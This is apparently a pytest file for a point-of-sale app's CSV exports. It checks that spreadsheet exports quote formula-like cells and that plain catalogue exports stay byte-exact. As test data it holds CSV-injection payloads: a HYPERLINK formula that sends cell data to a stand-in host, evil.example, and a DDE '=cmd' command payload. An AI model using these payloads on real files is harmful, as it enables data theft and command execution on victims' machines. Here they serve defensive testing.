"""Exports for spreadsheets quote formula-like cells; the plain catalogue CSV stays exact.

A real SQLite store, the command line in-process: names that a spreadsheet would run as
formulas go in through the catalogue import and a sale's buyer details, and come out
quoted in ``catalog export --excel``, ``sales export --format csv`` and ``report … --csv``,
while ``catalog export`` (plain) gives back the very bytes that were imported.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from cli.main import main
from pos.bootstrap import initialise
from pos.catalogue.domain.csv_format import COLUMNS
from pos.clock import FakeClock
from pos.sale.domain.completed_sale import BuyerDetails
from pos.sale.domain.tenders import CashTender
from pos.spreadsheet import FORMULA_STARTS
from pos.store.database import DATABASE_FILENAME
from tests.factories import make_product
from tests.sales_helpers import JULY_2021, add_staff, cart_of, open_till, sell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE_ROWS = [
    ["", "FX-0001", HYPERLINK, "+1+2", "textile", "@SUM(A1:A9)", "150.00", "cloth"],
    ["", "FX-0002", "-ผ้าไหม", "=1+1", "textile", "กลุ่มทอผ้า", "99.50", "cloth"],
]


def _catalogue_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(COLUMNS)
    for values in HOSTILE_ROWS:
        writer.writerow([*values, "no", "yes", "3", "10"])
    return out.getvalue()


def dump(data_dir: Path) -> list[str]:
    connection = sqlite3.connect(data_dir / DATABASE_FILENAME)
    try:
        return list(connection.iterdump())
    finally:
        connection.close()


def cli(data_dir: Path, *args: str) -> None:
    assert main(["--data-dir", str(data_dir), *args]) == 0


def looks_like_a_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start, unless the cell is a plain number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as stream:
        return list(csv.reader(stream))


@pytest.fixture
def catalogue_store(tmp_path: Path) -> tuple[Path, Path]:
    data_dir, source = tmp_path / "store", tmp_path / "hostile.csv"
    source.write_text(_catalogue_csv(), encoding="utf-8", newline="")
    cli(data_dir, "init")
    cli(data_dir, "catalog", "import", str(source))
    return data_dir, source


def test_the_plain_catalogue_round_trip_stays_exact(
    catalogue_store: tuple[Path, Path], tmp_path: Path
) -> None:
    data_dir, _ = catalogue_store
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    cli(data_dir, "catalog", "export", str(first))
    before = dump(data_dir)
    cli(data_dir, "catalog", "import", str(first))
    assert dump(data_dir) == before
    cli(data_dir, "catalog", "export", str(second))
    assert first.read_bytes() == second.read_bytes()
    names = {row[1]: row[2:4] for row in cells(first)[1:]}
    assert names["FX-0001"] == [HYPERLINK, "+1+2"]  # exactly as stored, for importing again
    assert names["FX-0002"] == ["-ผ้าไหม", "=1+1"]


def test_the_excel_export_quotes_every_formula_like_cell(
    catalogue_store: tuple[Path, Path], tmp_path: Path
) -> None:
    data_dir, _ = catalogue_store
    excel = tmp_path / "excel.csv"
    cli(data_dir, "catalog", "export", str(excel), "--excel")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = cells(excel, "utf-8-sig")
    assert rows[0] == list(COLUMNS)
    assert not [cell for row in rows for cell in row if looks_like_a_formula(cell)]
    by_sku = {row[1]: row for row in rows[1:]}
    assert by_sku["FX-0001"][2:6] == ["'" + HYPERLINK, "'+1+2", "textile", "'@SUM(A1:A9)"]
    assert by_sku["FX-0002"][2:4] == ["'-ผ้าไหม", "'=1+1"]
    assert by_sku["FX-0002"][6] == "99.50"  # numbers stay numbers


@pytest.fixture
def sold_store(tmp_path: Path) -> Path:
    """One sale of a product named like a formula, to a buyer named like one."""
    data_dir = tmp_path / "shop"
    context, _ = initialise(data_dir, demo=False)
    try:
        cashier, _ = add_staff(context)
        clock = FakeClock(JULY_2021)
        open_till(context, clock, cashier)
        cart = cart_of((make_product("FX-0001", 15_000, name_th=HYPERLINK), 2))
        buyer = BuyerDetails.checked(CALC, "@12 ม.3 ต.โพธิ์ จ.ศรีสะเกษ", "1-1111-11111-11-9")
        sell(context, clock, cart, [CashTender(50_000)], cashier, buyer=buyer)
    finally:
        context.close()
    return data_dir


def test_the_day_export_csv_quotes_formula_like_cells(sold_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "day.csv"
    cli(
        sold_store,
        "sales",
        "export",
        "--date",
        "2021-07-05",
        "--format",
        "csv",
        "--output",
        str(out),
    )
    rows = cells(out)
    flat = [cell for row in rows for cell in row]
    assert not [cell for cell in flat if looks_like_a_formula(cell)]
    assert "'" + CALC in flat and "'" + HYPERLINK in flat
    assert "'@12 ม.3 ต.โพธิ์ จ.ศรีสะเกษ" in flat
    assert "300.00" in flat  # the line's amount, still a number


def test_the_report_csv_quotes_formula_like_cells(sold_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    cli(
        sold_store,
        "report",
        "sales",
        "--from",
        "2021-07-05",
        "--to",
        "2021-07-05",
        "--csv",
        str(out),
    )
    flat = [cell for row in cells(out) for cell in row]
    assert not [cell for cell in flat if looks_like_a_formula(cell)]
    assert "'" + HYPERLINK in flat
